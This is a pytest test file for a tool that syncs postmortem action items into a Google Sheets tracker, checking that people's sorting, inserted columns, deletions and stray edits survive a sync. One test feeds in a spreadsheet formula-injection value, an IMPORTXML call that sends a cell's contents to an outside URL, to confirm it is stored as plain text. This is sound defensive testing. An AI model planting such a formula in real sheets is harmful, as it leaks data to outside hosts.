"""The tracker belongs to people as well: what they type, move, add and remove, before and during a sync."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from gspread.utils import ValueInputOption, ValueRenderOption
from sync_world import IDLE, KEYS, Team, close, new_team_, open_team, prepared_, team_  # noqa: F401 - fixtures

from pmdocs.core.sheet.tracker import (
    ACTION_ITEMS,
    CHANGES,
    COMMENTS,
    LOG,
    PEOPLE,
    POSTMORTEMS,
    STATE,
    WORKSHEETS,
)
from pmdocs.errors import TrackerError
from pmdocs.workflows.check import check

SHEET_ID = ACTION_ITEMS.sheet_id
CALLS = 5
"""API calls of a sync that finds one edit."""


def _dress(team: Team) -> dict[str, Any]:
    """People's own things in the sheet; what has to be left of them."""
    sheet = team.sheet()
    sheet.column("Memo")
    sheet.column("Twice")
    sheet.column("Mine", before=4)
    for number, key in enumerate(KEYS, 1):
        sheet.type(key, "Memo", f"memo of {key}")
        sheet.type(key, "Twice", f"={number}*2")
        sheet.type(key, "Mine", number)
    row, place = sheet.place(KEYS[1], "action")
    area = {"sheetId": SHEET_ID, "startRowIndex": row - 1, "endRowIndex": row}
    area |= {"startColumnIndex": place - 1, "endColumnIndex": place}
    fill = {"userEnteredFormat": {"backgroundColor": {"red": 1}}}
    sheet.batch({"repeatCell": {"range": area, "cell": fill, "fields": "userEnteredFormat.backgroundColor"}})
    return _own(team)


def _own(team: Team) -> dict[str, Any]:
    """People's own columns by key, formulas as shown."""
    return {
        key: (record.get("Memo"), record.get("Twice"), record.get("Mine"))
        for key, record in team.sheet().by_key().items()
    }


def _machine(team: Team) -> dict[str, Any]:
    """Columns of pmdocs by key, times aside."""
    names = {column.key for column in ACTION_ITEMS.columns} - {"last_changed"}
    return {
        key: {name: value for name, value in record.items() if name in names}
        for key, record in team.sheet().by_key().items()
    }


def _sort(team: Team) -> None:
    team.sheet().sort("due", descending=True)


def _sort_postmortems_and_items(team: Team) -> None:
    team.sheet().sort("action")
    team.sheet(POSTMORTEMS).blank_row(2)


def _insert_row(team: Team) -> None:
    team.sheet().blank_row(2)


def _insert_column_before(team: Team) -> None:
    team.sheet().column("New", before=1)


def _insert_column_between(team: Team) -> None:
    team.sheet().column("", before=5)


def _row_above_the_header(team: Team) -> None:
    team.sheet().blank_row(1)


def _move_column(team: Team) -> None:
    source = {"sheetId": SHEET_ID, "dimension": "COLUMNS", "startIndex": 4, "endIndex": 6}
    team.sheet().batch({"moveDimension": {"source": source, "destinationIndex": 15}})


def _filter(team: Team) -> None:
    team.sheet().batch({"setBasicFilter": {"filter": {"range": {"sheetId": SHEET_ID}}}})


def _rename_worksheet(team: Team) -> None:
    team.sheet().page.update_title("Our actions")


def _own_row(team: Team) -> None:
    """A row of one's own above the others, without a key."""
    team.sheet().blank_row(2)
    header = team.sheet().header()
    cells = [""] * len(header)
    cells[header.index("Action")], cells[header.index("Priority")] = "not a postmortem's", "high"
    team.sheet().page.update([cells], "A2")


MOVES = [
    _sort,
    _sort_postmortems_and_items,
    _insert_row,
    _insert_column_before,
    _insert_column_between,
    _row_above_the_header,
    _move_column,
    _filter,
    _rename_worksheet,
    _own_row,
]


@pytest.mark.parametrize("move", MOVES)
def test_moved_before_a_sync(team: Team, move: Callable[[Team], None]) -> None:
    """Wherever rows and columns stand, values arrive beside their key and own cells stay beside theirs."""
    own = _dress(team)
    move(team)
    team.table("ada").change(1, priority="P0", ticket="OPS-1")
    team.settle()

    assert ("P0", "OPS-1") == (team.sheet().get(KEYS[0], "priority"), team.sheet().get(KEYS[0], "ticket"))
    assert own == _own(team)
    assert len(KEYS) == len(team.sheet().by_key())


@pytest.fixture(name="dressed", scope="module")
def dressed_(prepared: tuple[Path, str], tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """Files of a team whose sheet has people's own columns and whose document was just edited."""
    directory = tmp_path_factory.mktemp("dressed") / "world"
    team = open_team(directory, prepared)
    _dress(team)
    for row in (1, 2, 3):
        team.table("ada").change(row, priority="P0", ticket=f"OPS-{row}")
    close(team)
    return directory, prepared[1]


@pytest.mark.parametrize(
    ("move", "number", "phase"),
    [
        (move, number, phase)
        for move in MOVES
        for number, phase in ([(1, "after"), (2, "after"), (3, "after")] if move in (_sort, _own_row) else [])
        + [(4, "after"), (5, "after")]
    ],
)
def test_moved_between_any_two_calls(
    dressed: tuple[Path, str], tmp_path: Path, move: Callable[[Team], None], number: int, phase: str
) -> None:
    """A person who sorts, inserts or renames while a sync runs: each value and each memo beside its key."""
    team = open_team(tmp_path / "team", dressed)
    own = _own(team)
    team.world.ports()
    team.world.at(number, phase, lambda: move(team))

    team.sync()

    assert {key: ("P0", f"OPS-{n}") for n, key in enumerate(KEYS, 1)} == {
        key: (row["priority"], row["ticket"]) for key, row in team.sheet().by_key().items()
    }
    assert own == _own(team)
    if move is _own_row and number < CALLS - 1:
        # What is typed after the last read and before the write is not known to anybody.
        assert [("not a postmortem's", "high")] == [
            (row["action"], row["priority"]) for row in team.sheet().records() if not row["key"]
        ]
    before = _machine(team)
    team.settle()

    assert before == _machine(team)
    assert len(KEYS) == len(team.sheet().records()) - (move is _own_row)
    assert [] == [row for row in team.sheet(CHANGES).records() if row["state"] == "unjustified"]
    close(team)


def test_what_was_hit_is_reported(team: Team) -> None:
    """Cells put right because of a sort are counted in the report."""
    for row in (1, 2, 3):
        team.table("ada").change(row, ticket=f"OPS-{row}")
    team.world.ports()
    team.world.at(CALLS, "before", lambda: _sort(team))

    report = team.sync()

    assert any("cells that were hit by mistake" in notice for notice in report.notices)


def test_sorted_again_while_it_is_mended(team: Team) -> None:
    """A sort back between the write and its mending: still every value beside its key."""
    own = _dress(team)
    for row in (1, 2, 3):
        team.table("ada").change(row, ticket=f"OPS-{row}")
    team.world.ports()
    team.world.at(CALLS, "before", lambda: _sort(team))
    team.world.at(CALLS + 9, "before", lambda: team.sheet().sort("key"))

    team.sync()

    assert {key: f"OPS-{n}" for n, key in enumerate(KEYS, 1)} == {
        key: row["ticket"] for key, row in team.sheet().by_key().items()
    }
    assert own == _own(team)


# Columns and worksheets that are not there


@pytest.mark.parametrize(
    "column", ["Incident ID", "Action", "Type", "Due", "Justification", "Conflict", "Last changed"]
)
def test_a_column_that_is_gone(team: Team, column: str) -> None:
    """A deleted column is named and not written; nothing else changes, and nobody is asked why it is empty."""
    sheet = team.sheet()
    place = sheet.header().index(column) + 1
    sheet.page.delete_columns(place)
    team.table("ada").change(2, action="Bound the retries.")

    report = team.sync()
    team.settle()

    assert any(f"'{column}'" in notice for notice in report.notices)
    assert [] == [row for row in team.sheet(CHANGES).records() if row["needs_reason"] == "yes"]
    assert [] == team.asks()
    if column != "Action":
        assert "Bound the retries." == team.sheet().get(KEYS[1], "action")


def test_a_two_way_column_made_anew(team: Team) -> None:
    """A column that was deleted and is put back empty is filled again; its emptiness is nobody's edit."""
    sheet = team.sheet()
    place = sheet.header().index("Due") + 1
    sheet.page.delete_columns(place)
    team.settle()
    sheet.column("Due", before=place)
    team.settle()

    # The new column has no date format yet.
    assert ["46357", "46361", "46366"] == [row["due"] for row in team.sheet().records()]
    assert [] == team.sheet(CHANGES).records()


def test_a_renamed_header_is_named_and_left_alone(team: Team) -> None:
    """A header nobody knows is not written, nor is its column's content; the Japanese twin is understood."""
    sheet = team.sheet()
    for header, name in (("Ticket", "Our tickets"), ("Priority", "優先度")):
        place = sheet.header().index(header) + 1
        sheet.page.update_cell(1, place, name)
    sheet.page.update_cell(2, sheet.header().index("Our tickets") + 1, "mine")
    team.table("ada").change(1, priority="P0", ticket="OPS-1")

    report = team.sync()
    team.settle()

    assert any("'Ticket'" in notice for notice in report.notices)
    row = team.sheet().by_key()[KEYS[0]]
    assert ("P0", "mine") == (row["優先度"], row["Our tickets"])


@pytest.mark.parametrize("worksheet", [ACTION_ITEMS, CHANGES, COMMENTS, POSTMORTEMS])
def test_a_key_column_that_is_gone(team: Team, worksheet: Any) -> None:
    """Without its key column a worksheet is named and left as it is; the others go on."""
    sheet = team.sheet(worksheet)
    place = sheet.header().index(sheet.key_header) + 1
    sheet.page.update_cell(1, place, "Renamed")
    before = sheet.rows()
    team.table("ada").change(1, priority="P3")
    team.say("ken", "How many orders were lost?", "Orders failed")

    report = team.sync()
    team.settle()

    assert any("no column" in notice for notice in report.notices)
    assert before == team.sheet(worksheet).rows()
    assert 1 == len(team.asks())
    if worksheet is not ACTION_ITEMS:
        assert "P3" == team.sheet().get(KEYS[0], "priority")


@pytest.mark.parametrize("worksheet", [ACTION_ITEMS, CHANGES, COMMENTS, POSTMORTEMS, PEOPLE])
def test_a_worksheet_that_is_gone(team: Team, worksheet: Any) -> None:
    """A deleted worksheet is named, the others go on; made anew by init it is filled again."""
    team.table("ada").change(2, priority="P1")
    team.settle()
    before = team.end_state()
    team.book(None).del_worksheet(team.sheet(worksheet, None).page)
    team.table("ada").change(1, ticket="OPS-1")
    report = team.sync()

    assert any(f"'{worksheet.en}' is gone" in notice for notice in report.notices)

    team.settle()
    team.world.init()
    team.sync(full=True)
    team.settle()
    team.table("ada").change(1, ticket="")
    team.settle()
    state = team.end_state()

    if worksheet in (ACTION_ITEMS, COMMENTS, PEOPLE):
        assert before["action_items"] == state["action_items"]
    if worksheet is CHANGES:
        assert 1 == len([row for row in team.sheet(CHANGES).records() if row["flags"] == "restored"])
    assert 1 == len(team.sheet(POSTMORTEMS).records())


def test_an_emptied_tracker_is_left_alone(team: Team) -> None:
    """With everything visible deleted a sync stops with advice and writes nothing."""
    for worksheet in (POSTMORTEMS, ACTION_ITEMS):
        team.sheet(worksheet).page.clear()
    state = team.sheet(STATE, None).rows()
    team.table("ada").change(1, priority="P3")

    with pytest.raises(TrackerError, match="empty") as caught:
        team.sync()

    assert "earlier version" in caught.value.hint
    assert state == team.sheet(STATE, None).rows()
    assert [] == team.sheet(ACTION_ITEMS).rows() or [[]] == team.sheet(ACTION_ITEMS).rows()
    assert [] == team.asks()


def test_an_emptied_state_is_left_alone(team: Team) -> None:
    """Without its hidden state a sync stops with advice and writes nothing."""
    team.book(None).get_worksheet_by_id(STATE.sheet_id).clear()
    before = team.sheet().rows()

    with pytest.raises(TrackerError, match="hidden state"):
        team.sync()

    assert before == team.sheet().rows()


def _overdue(team: Team) -> set[str]:
    return {one.key for one in check(team.world.ports()).violations if one.rule == "overdue"}


@pytest.mark.parametrize("worksheet", [STATE, LOG], ids=["memory", "log"])
def test_a_hidden_worksheet_made_anew(team: Team, worksheet: Any) -> None:
    """Deleted and made again by init, syncs write on and come to rest; what people wrote stays, and so do alarms."""
    team.sheet().column("Memo")
    team.sheet().type(KEYS[0], "Memo", "kept")
    team.world.clock.sleep(12 * 86_400)
    team.settle()
    rows = team.sheet().rows()
    team.sheet().batch({"deleteSheet": {"sheetId": worksheet.sheet_id}})

    team.world.init()
    team.create(8, items=1)
    first = team.sync()
    team.settle()

    # What is in the sheet without a memory is not registered anew: it would forget what lacks a reason.
    assert ([team.document_id] if worksheet is STATE else []) == [one.document_id for one in first.failed]
    assert rows == team.sheet().rows()[: len(rows)]
    assert "P1" == team.sheet().get("INC-8/AI-1", "priority")
    assert {KEYS[0]} == _overdue(team)
    assert IDLE == team.calls()[1]


@pytest.mark.parametrize("ahead", [1, 5])
def test_a_memory_behind_its_guards(team: Team, ahead: int) -> None:
    """A head that names a generation already written, as an earlier version's init left it, stops no sync for good."""
    head = team.sheet(STATE, None)
    written = int(dict(row[:2] for row in head.rows() if row[0])["generation"])
    head.page.update([[str(written - ahead)]], "B2", value_input_option=ValueInputOption.raw)
    team.sheet().type(KEYS[0], "ticket", "OPS-7")

    team.settle()

    assert "OPS-7" == team.sheet().get(KEYS[0], "ticket")
    assert "OPS-7" == team.base().items[0].value("ticket")


def test_a_base_that_is_gone_is_named(team: Team) -> None:
    """A document whose memory was deleted is not registered anew over its old rows; it is named."""
    page = team.book(None).get_worksheet_by_id(STATE.sheet_id)
    row = next(n for n, cells in enumerate(page.get_all_values(), 1) if cells[0] == team.document_id)
    page.delete_rows(row)
    before = team.sheet().rows()

    report = team.sync(full=True)

    assert [True] == ["memory" in str(failed.error) for failed in report.failed]
    assert before == team.sheet().rows()


# Rows


def test_a_deleted_row_comes_back(team: Team) -> None:
    """A row that a person deleted is there again after the next sync, with its history."""
    team.table("ada").change(2, priority="P1")
    team.settle()
    before = _machine(team)
    row, _ = team.sheet().place(KEYS[1], "key")
    team.sheet().page.delete_rows(row)
    team.settle()

    assert before == _machine(team)


def test_deleted_rows_of_the_log_come_back(team: Team) -> None:
    """A row deleted from the Changes worksheet is appended again, marked as restored, once."""
    team.table("ada").change(2, priority="P1")
    team.settle()
    team.sheet(CHANGES).page.delete_rows(2)
    team.sync(full=True)
    team.settle()
    team.sync(full=True)

    assert [(KEYS[1], "P0", "P1", "restored")] == [
        (row["key"], row["old"], row["new"], row["flags"]) for row in team.sheet(CHANGES).records()
    ]


def test_an_edited_log_does_not_silence(team: Team) -> None:
    """A change whose state somebody typed over calls for its reason again in a row of its own, once."""
    team.table("ada").change(2, priority="P1")
    team.settle()
    page = team.sheet(CHANGES).page
    page.update_cell(2, team.sheet(CHANGES).header().index("State") + 1, "justified")
    team.sync(full=True)
    team.settle()
    team.sync(full=True)

    rows = [(row["key"], row["state"], row["flags"]) for row in team.sheet(CHANGES).records()]
    assert [(KEYS[1], "justified", ""), (KEYS[1], "unjustified", "restored")] == rows
    assert "1" == team.sheet(POSTMORTEMS).get("INC-7", "unjustified")


def test_doubled_keys_are_named(team: Team) -> None:
    """A copied row is named; the first one counts, and the copy is left as it is."""
    cells = team.sheet().page.row_values(2)
    team.sheet().page.append_row(cells)
    team.table("ada").change(1, ticket="OPS-1")

    report = team.sync()
    team.settle()

    assert any(f"the key {KEYS[0]}" in notice for notice in report.notices)
    assert ["OPS-1", "", "", ""] == [row["ticket"] for row in team.sheet().records()]


# Cells


@pytest.mark.parametrize(
    ("column", "text"),
    [
        ("due", "soon"),
        ("due", "someday"),
        ("due", "32/13/2026"),
        ("priority", "P9"),
        ("priority", 1),
        ("priority", True),
        ("status", "half done"),
        ("type", "misc"),
        ("done_on", "yesterday or so"),
        ("due", "99999999999"),
        ("due", -5),
    ],
)
def test_junk_in_two_way_cells_stays_and_is_named(team: Team, column: str, text: Any) -> None:
    """What nobody can read stays as typed, is noted, and never stops a sync; the next one is silent."""
    team.sheet().type(KEYS[0], column, text)
    shown = team.sheet().get(KEYS[0], column)
    report = team.sync()
    team.settle()

    assert () == report.failed
    assert shown == team.sheet().get(KEYS[0], column)
    assert "P1" == team.sheet().get(KEYS[0], "original_priority")


@pytest.mark.parametrize(
    "column", ["action", "incident_id", "original_priority", "original_due", "changes", "slip_days", "source"]
)
def test_machine_columns_are_written_again(team: Team, column: str) -> None:
    """What is typed over a machine column is put back at the next read, and reported."""
    before = team.sheet().get(KEYS[0], column)
    team.sheet().type(KEYS[0], column, "7 things")

    team.sync(full=True)

    assert before == team.sheet().get(KEYS[0], column)
    assert "machine-column-edited" in team.sheet(POSTMORTEMS).get("INC-7", "note")


@pytest.mark.parametrize("typed", ["INC-7/AI-99", "7 things", "", KEYS[1]])
def test_a_key_is_written_again(team: Team, typed: str) -> None:
    """A key that was typed over is put back at the next sync and reported; after that a sync has nothing to do."""
    before = team.sheet().records()
    team.sheet().type(KEYS[0], "key", typed)
    team.sync()

    assert before == team.sheet().records()
    assert f"machine-column-edited: {KEYS[0]} key" in team.sheet(POSTMORTEMS).get("INC-7", "note")
    for _ in range(2):
        report, calls = team.calls()
        assert (False, 2) == (report.wrote, len(calls))
    team.table().change(1, due="2027-06-30")
    team.sync()
    assert "2027-06-30" == team.sheet().get(KEYS[0], "due")


def test_a_row_that_people_made_up_is_let_alone(team: Team) -> None:
    """A row under a key that no item has stays as it is, is named, and keeps no sync from being idle; an edit of it is seen."""
    place = len(team.sheet().rows()) + 1
    team.sheet().page.update([["INC-7/AI-99", "INC-7", "Buy a cake"]], f"A{place}")
    team.settle()

    assert "machine-column-edited: INC-7/AI-99 key" in team.sheet(POSTMORTEMS).get("INC-7", "note")
    assert "Buy a cake" == team.sheet().get("INC-7/AI-99", "action")
    report, calls = team.calls()
    assert (False, 2) == (report.wrote, len(calls))
    team.sheet().type("INC-7/AI-99", "owner", "ada@example.com")
    assert ["sheet"] == [one.reason for one in team.sync().documents]
    assert [] == list(team.sync().documents)


def test_a_row_of_people_without_an_address_is_ignored(team: Team) -> None:
    """What stands in its e-mail cell replaces no owner's name; each sync names the row."""
    team.table().change(1, owner="Bob")
    team.sheet(PEOPLE).page.update([["Bob", "not-an-address"]], "A2")

    assert any("row 2" in one and "'not-an-address'" in one for one in team.sync().notices)
    assert "Bob" == team.sheet().get(KEYS[0], "owner")
    assert any("'not-an-address'" in one for one in team.sync().notices)
    assert "Bob" == team.sheet().get(KEYS[0], "owner")


def test_comment_cells_belong_to_people(team: Team) -> None:
    """A corrected kind, answer or mark stays whatever is replied, until it is emptied back by nobody."""
    thread = team.say("ken", "Why was there no alert?", "pool exhaustion")
    team.settle()
    key = f"{team.document_id}/{thread}"
    team.sheet(COMMENTS).type(key, "kind", "note")
    team.sheet(COMMENTS).type(key, "answer", "See the timeline.")
    team.reply("bob", thread, "Because the metric did not exist.")
    team.settle()

    row = team.sheet(COMMENTS).by_key()[key]
    assert ("note", "See the timeline.", "1") == (row["kind"], row["answer"], row["replies"])


def test_a_corrected_kind_stays_for_ever(team: Team) -> None:
    """Also when the comment is edited into what the person said it is, and then into something else."""
    thread = team.say("ken", "Why was there no alert?", "pool exhaustion")
    team.settle()
    key = f"{team.document_id}/{thread}"
    team.sheet(COMMENTS).type(key, "kind", "suggestion")
    team.settle()
    for text in ("Suggestion: add an alert.", "Kudos: great work, thank you!"):
        comments = team.world.emulator.client("drive", user="ken@example.com").comments()
        comments.update(
            fileId=team.document_id, commentId=thread, body={"content": text}, fields="id"
        ).execute()
        # Activity does not tell of edited comments: they are seen when their document is read.
        team.sync(full=True)

    row = team.sheet(COMMENTS).by_key()[key]
    assert ("suggestion", "Kudos: great work, thank you!") == (row["kind"], row["comment"])


def test_a_note_corrected_to_a_question_is_one(team: Team) -> None:
    """It counts as unanswered until somebody replies; then its answer stands in the sheet."""
    thread = team.say("ken", "The pool size here.", "pool exhaustion")
    team.settle()
    key = f"{team.document_id}/{thread}"
    assert "note" == team.sheet(COMMENTS).by_key()[key]["kind"]
    team.sheet(COMMENTS).type(key, "kind", "question")
    team.sync(full=True)
    unanswered = team.sheet(POSTMORTEMS).get("INC-7", "unanswered")
    team.reply("bob", thread, "It was 20 per instance.")
    team.settle()

    assert "1" == unanswered
    assert "0" == team.sheet(POSTMORTEMS).get("INC-7", "unanswered")
    assert "It was 20 per instance." == team.sheet(COMMENTS).by_key()[key]["answer"]


def test_nothing_becomes_a_formula(team: Team) -> None:
    """Texts from documents that look like formulas arrive as the texts they are."""
    words = '=IMPORTXML("https://example.com/?"&A1,"//a")'
    team.say("ken", words, "pool exhaustion")
    team.table("ada").change(1, action=words, ticket="=1+1")
    team.settle()

    page = team.sheet(COMMENTS).page
    place = team.sheet(COMMENTS).header().index("Comment") + 1
    assert (
        words
        == page.cell(2, place, value_render_option=ValueRenderOption.formula).value
        == page.cell(2, place).value
    )
    assert (words, "=1+1") in [(row["action"], row["ticket"]) for row in team.sheet().records()]


def test_a_guard_removed_by_a_person_stops_nothing(team: Team) -> None:
    """Named ranges of earlier runs may be deleted by people; syncs go on."""
    for name in team.book(None).list_named_ranges():
        team.book(None).batch_update(
            {"requests": [{"deleteNamedRange": {"namedRangeId": name["namedRangeId"]}}]}
        )
    for number in range(12):
        team.table("ada").change(1, ticket=f"OPS-{number}")
        team.sync()

    assert "OPS-11" == team.sheet().get(KEYS[0], "ticket")


def test_titles_swapped_between_worksheets(team: Team) -> None:
    """Worksheets are known by their id: with swapped titles everything still lands in the right one."""
    book = team.book(None)
    pages = [book.get_worksheet_by_id(w.sheet_id) for w in WORKSHEETS if w in (ACTION_ITEMS, COMMENTS)]
    names = [page.title for page in pages]
    pages[0].update_title("aside")
    pages[1].update_title(names[0])
    pages[0].update_title(names[1])
    team.table("ada").change(1, ticket="OPS-1")
    team.settle()

    assert "OPS-1" == team.sheet().get(KEYS[0], "ticket")
